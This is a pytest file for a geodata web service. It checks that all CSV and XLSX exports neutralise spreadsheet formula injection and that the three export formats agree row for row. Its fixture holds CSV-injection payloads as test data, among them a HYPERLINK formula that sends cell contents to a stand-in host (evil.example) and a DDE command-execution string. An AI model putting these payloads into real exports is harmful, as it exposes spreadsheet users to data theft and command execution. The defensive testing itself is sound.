"""No export hands a spreadsheet a formula: on a private copy of the demo whose area, facility and indicator
names and import file names begin with =, +, -, @, tab or carriage return, every CSV the service writes (the
data twins of pages and APIs, the downloads in both styles, the CLI's --csv) shows those cells with a
leading apostrophe (OWASP), while numbers, negative ones included, stay plain numbers."""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys

import pytest
import sqlalchemy as sa
from fastapi.testclient import TestClient

from geo.grid import GridImportOptions, import_grid
from service.app import create_app
from tests.conftest import bearer, make_settings, private_engine
from tests.test_grid import berlin_grid
from web.tabular_export import FORMULA_STARTS, GERMAN, STANDARD, csv_text

NAMES = ['=HYPERLINK("http://evil.example/?"&A1,"Klick")', "+SUM(1;1)", "-2+3", "@SUM(A1:A9)", "\t=1+1",
         "\r=1+1"]
ENDPOINTS = [
    "/explorer?indicator=S1&f=csv",
    "/explorer?indicator=S1&period=2020-12-31&compare=2018-12-31&f=csv",
    "/areas?f=csv",
    "/areas/plr/01100101?f=csv",
    "/api/indicators?f=csv",
    "/api/indicators/S1?f=csv",
    "/api/coverage?f=csv",
    "/api/coverage?indicator=S1&level=plr&period=2020-12-31&f=csv",
    "/api/areas/01100101/history?level=plr&f=csv",
    "/api/indices/mss_2021_gesamtindex/results?f=csv",
    "/api/indices/mss_2021_gesamtindex/attention-areas?f=csv",
    "/api/aggregate/derivations?level=bez&f=csv",
    "/api/aggregate/catchments?layer=kitas&radius=500&indicator=EW_U6&capacity=e_platz&f=csv",
    "/api/aggregate/points?layer=kitas&f=csv",
    "/api/aggregate/supply?f=csv",
    "/api/aggregate/grid?layer=zensus_1km&variable=Einwohner&f=csv",
    "/api/programmes/hostile/evaluation?f=csv",
    "/collections/plr/download?format=csv",
    "/collections/plr/download?format=csv&csv_style=de",
]


@pytest.fixture(scope="module")
def hostile(pg_server, demo_template, tmp_path_factory):
    """(engine, client) on a demo copy with formula-like names everywhere, a grid layer and a programme."""
    with private_engine(pg_server, demo_template, prefix="dm_test_formulas") as engine:
        path = tmp_path_factory.mktemp("grid") / "zensus_1km.csv"
        berlin_grid(engine, 1000)[["GITTER_ID", "Einwohner"]].to_csv(path, sep=";", index=False)
        with engine.connect() as conn:
            assert import_grid(conn, path, GridImportOptions(layer="zensus_1km")).ok
        with engine.begin() as conn:
            names = {"names": NAMES}
            conn.execute(sa.text("UPDATE area SET name = (CAST(:names AS text[]))[1 + (id % 6)::int] || key"), names)
            conn.execute(sa.text("UPDATE point_feature SET name = (CAST(:names AS text[]))[1 + (id % 6)::int]"), names)
            conn.execute(sa.text("UPDATE indicator SET name_de = '=1+1 ' || name_de"))
            conn.execute(sa.text("UPDATE import_batch SET file_name = '@' || file_name"))
        with TestClient(create_app(make_settings(rate_limit_per_minute=0), engine=engine)) as client:
            created = client.post("/api/programmes", headers=bearer(engine, "editor"), json={
                "id": "hostile", "name": "=cmd|' /C calc'!A0", "start_date": "2019-01-01", "level": "plr",
                "area_keys": ["01100101", "01100102", "01100103", "01100104"]})
            assert created.status_code == 201, created.text
            yield engine, client


def rows_of(text: str) -> list[list[str]]:
    separator = ";" if text.startswith("\ufeff") else ","
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"), newline=""), delimiter=separator))


def is_number(cell: str) -> bool:
    try:
        float(cell.replace(",", "."))
    except ValueError:
        return False
    return True


def assert_no_formula(rows: list[list[str]], where: str) -> None:
    cells = [cell for row in rows for cell in row]
    formulas = [c for c in cells if c.startswith(FORMULA_STARTS) and not is_number(c)]
    assert not formulas, f"{where}: cells a spreadsheet would evaluate: {formulas[:5]}"
    neutralised = [c for c in cells if c.startswith("'") and c[1:].startswith(FORMULA_STARTS)]
    assert neutralised, f"{where}: no hostile name reached this export, so it proves nothing"


@pytest.mark.parametrize("url", ENDPOINTS)
def test_every_csv_export_neutralises_formula_cells(hostile, url):
    _engine, client = hostile
    response = client.get(url)
    assert response.status_code == 200, response.text[:300]
    assert response.headers["content-type"].startswith("text/csv")
    assert_no_formula(rows_of(response.content.decode("utf-8")), url)


def test_negative_numbers_stay_numbers_in_a_change_map(hostile):
    _engine, client = hostile
    rows = rows_of(client.get("/explorer?indicator=S1&period=2020-12-31&compare=2018-12-31&f=csv").text)
    values = [row[rows[0].index("value")] for row in rows[1:]]
    assert any(v.startswith("-") and is_number(v) for v in values)
    assert not any(v.startswith("'") for v in values)


def test_the_cli_writes_neutralised_csv(hostile, tmp_path):
    engine, _client = hostile
    out = tmp_path / "supply.csv"
    url = engine.url.render_as_string(hide_password=False)
    result = subprocess.run([sys.executable, "-m", "service", "aggregate", "supply", "--csv", str(out)],
                            capture_output=True, text=True, timeout=300, env={**os.environ, "DATABASE_URL": url})
    assert result.returncode == 0, result.stderr
    assert_no_formula(rows_of(out.read_text(encoding="utf-8")), "aggregate supply --csv")


def test_only_text_cells_are_neutralised_in_both_styles():
    rows = [{"name": "-2+3", "value": -2.5, "count": -3, "empty": None, "plain": "Mitte"}]
    fields = ["name", "value", "count", "empty", "plain"]
    assert rows_of(csv_text(rows, fields, STANDARD))[1] == ["'-2+3", "-2.5", "-3", "", "Mitte"]
    assert rows_of(csv_text(rows, fields, GERMAN))[1] == ["'-2+3", "-2,5", "-3", "", "Mitte"]


# -- one format layer: every tabular endpoint offers the same tables ------------------------------------------
# Each endpoint whose `f` (or `format`) offers xlsx, by its path template, with a URL that has rows. A new
# tabular route fails test_every_tabular_endpoint_is_walked until it is listed here.
TABULAR = {
    "/explorer": "/explorer?indicator=S1&period=2020-12-31&compare=2018-12-31",
    "/areas": "/areas",
    "/areas/{level}/{key}": "/areas/plr/01100101",
    "/api/indicators": "/api/indicators",
    "/api/indicators/{code}": "/api/indicators/S1",
    "/api/coverage": "/api/coverage",
    "/api/areas/{key}/history": "/api/areas/01100101/history?level=plr",
    "/api/indices/{index_id}/results": "/api/indices/mss_2021_gesamtindex/results",
    "/api/indices/{index_id}/attention-areas": "/api/indices/mss_2021_gesamtindex/attention-areas",
    "/api/aggregate/derivations": "/api/aggregate/derivations?level=bez",
    "/api/aggregate/catchments": "/api/aggregate/catchments?layer=kitas&radius=500&indicator=EW_U6&capacity=e_platz",
    "/api/aggregate/points": "/api/aggregate/points?layer=kitas&sum=e_platz",
    "/api/aggregate/supply": "/api/aggregate/supply",
    "/api/aggregate/grid": "/api/aggregate/grid?layer=zensus_1km&variable=Einwohner",
    "/api/programmes/{programme_id}/evaluation": "/api/programmes/hostile/evaluation",
    "/collections/{collection_id}/download": "/collections/plr/download",
    "/api/segregation": "/api/segregation?groups=EW_AUSL&level=plr&within=bez",
    "/api/segregation/local": "/api/segregation/local?groups=EW_AUSL&level=plr",
    "/api/intervals": "/api/intervals?numerator=EW_AUSL&denominator=EW&level=plr",
    "/api/groups": "/api/groups",
    "/api/templates": "/api/templates",
    "/api/templates/{name}": "/api/templates/kgst_integrationsmonitoring_2020",
    "/api/templates/{name}/coverage": "/api/templates/kgst_integrationsmonitoring_2020/coverage",
    "/api/typology": "/api/typology?level=plr",
    "/api/typology/{key}/similar": "/api/typology/01100101/similar?level=plr",
    # the demo has no counts by group: four counts of the right shape, for the formats only
    "/api/gaps": "/api/gaps?level=plr&numerator=EW_27_45&denominator=EW&group_numerator=EW_15_18&group_denominator=EW_W",
}


def _same(cell) -> str:
    """A cell as all three formats must agree on it: numbers by value, dates by day, text as text."""
    import datetime as dt

    if cell is None:
        return ""
    if isinstance(cell, bool):
        return str(cell)
    if isinstance(cell, dt.datetime | dt.date):
        return cell.isoformat()[:10]
    if isinstance(cell, int | float):
        return repr(round(float(cell), 6))
    text = str(cell).replace("\r", "\n")  # XML (inside XLSX) reads a carriage return as a line feed
    try:
        return repr(round(float(text.replace(",", ".")), 6)) if text.strip() not in ("", "nan") else text
    except ValueError:
        return text[:10] if len(text) >= 10 and text[4:5] == "-" and text[7:8] == "-" and text[:4].isdigit() else text


def _table(client, url: str, fmt: str) -> list[list[str]]:
    import openpyxl

    key = "format" if url.startswith("/collections/") else "f"
    response = client.get(url + ("&" if "?" in url else "?") + f"{key}={fmt}")
    assert response.status_code == 200, (url, fmt, response.text[:300])
    if fmt == "xlsx":
        assert response.headers["content-type"].startswith("application/vnd.openxmlformats")
        assert response.headers["content-disposition"].endswith('.xlsx"')
        sheet = openpyxl.load_workbook(io.BytesIO(response.content), read_only=True).active
        rows = [list(row) for row in sheet.iter_rows(values_only=True)]
    else:
        assert response.headers["content-type"].startswith("text/csv")
        text = response.content.decode("utf-8")
        assert text.startswith("\ufeff") == (fmt == "csv-de")
        rows = rows_of(text)
    table = [[_same(cell) for cell in row] for row in rows]
    width = len(table[0])  # a spreadsheet stores no trailing empty cells: pad every row to the header's width
    return [row + [""] * (width - len(row)) for row in table]


@pytest.mark.parametrize("url", TABULAR.values(), ids=TABULAR.keys())
def test_every_tabular_endpoint_gives_the_same_rows_as_csv_german_csv_and_xlsx(hostile, url):
    _engine, client = hostile
    standard = _table(client, url, "csv")
    assert len(standard) > 1, f"{url}: no rows, so the comparison proves nothing"
    assert _table(client, url, "csv-de") == standard
    xlsx = _table(client, url, "xlsx")
    assert xlsx == standard


def test_every_tabular_endpoint_is_walked(hostile):
    _engine, client = hostile
    offering = set()
    for path, item in client.get("/api/openapi.json").json()["paths"].items():
        for operation in item.values():
            for parameter in operation.get("parameters", []) if isinstance(operation, dict) else []:
                if parameter["name"] in ("f", "format") and "xlsx" in str(parameter.get("schema")):
                    offering.add(path)
    assert offering == set(TABULAR)


def test_xlsx_cells_are_neutralised_and_typed():
    import openpyxl

    from service.formats import RENDERERS

    rows = [{"name": "=1+1", "value": -2.5, "count": 3, "empty": None, "nested": {"a": 1}}]
    book = openpyxl.load_workbook(io.BytesIO(RENDERERS["xlsx"].write(rows, list(rows[0]))))
    assert [c.value for c in book.active[2]] == ["'=1+1", -2.5, 3, None, '{"a":1}']
    assert all(c.data_type != "f" for row in book.active.iter_rows() for c in row)
